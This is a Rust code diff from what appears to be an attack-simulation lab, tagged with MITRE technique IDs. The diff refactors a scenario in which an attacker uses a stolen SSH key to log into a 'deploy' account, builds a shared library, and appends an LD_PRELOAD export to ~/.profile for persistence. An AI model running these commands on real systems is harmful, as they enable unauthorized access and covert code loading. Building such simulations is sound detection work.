@@ -3,9 +3,9 @@
 //! Hard because: what the library does, the owner's own programs do; a compiler is at home there; nothing goes out.
 
 use crate::Lab;
-use crate::life::remote::{self, OPTIONS, make_key, quoted};
+use crate::life::remote::{self, Thief, make_key, quoted};
 use crate::life::{compile, host_tasks};
-use crate::program::{Program, user};
+use crate::program::user;
 use anyhow::{Result, ensure};
 
 pub fn run(lab: &mut Lab) -> Result<()> {
@@ -21,10 +21,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     compile::once(lab, &host)?;
 
     let attack = lab.attack("a library in the profile");
-    let log_in = |commands: &str| {
-        let line = format!("ssh -i /root/.ssh/stolen {OPTIONS} deploy@{} {}", host.address, quoted(commands));
-        attacker.run("attack.scope", &Program::shell(&line))
-    };
+    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "deploy", to: &host };
     let (name, folder) = (lab.word(6), "/home/deploy/.cache");
     let (library, log) = (format!("{folder}/lib{name}.so"), format!("{folder}/{name}"));
     let step = attack.step("a library is built", &["T1078.003", "T1027.004"]);
@@ -39,7 +36,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
         step.mark(&host)?,
         quoted(&code)
     );
-    let said = log_in(&build)?;
+    let said = thief.log_in(&build)?;
     ensure!(said.contains(&library), "the library was not built: {said}");
     drop(step);
     lab.wait(3..8);
@@ -47,7 +44,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     let step = attack.step("the profile loads it", &["T1546.004", "T1574.006"]);
     step.remote(&host, &attacker);
     step.file(&host, "/home/deploy/.profile");
-    log_in(&format!("{} echo export LD_PRELOAD={library} >> ~/.profile", step.mark(&host)?))?;
+    thief.log_in(&format!("{} echo export LD_PRELOAD={library} >> ~/.profile", step.mark(&host)?))?;
     drop(step);
     lab.wait(2..5);
 
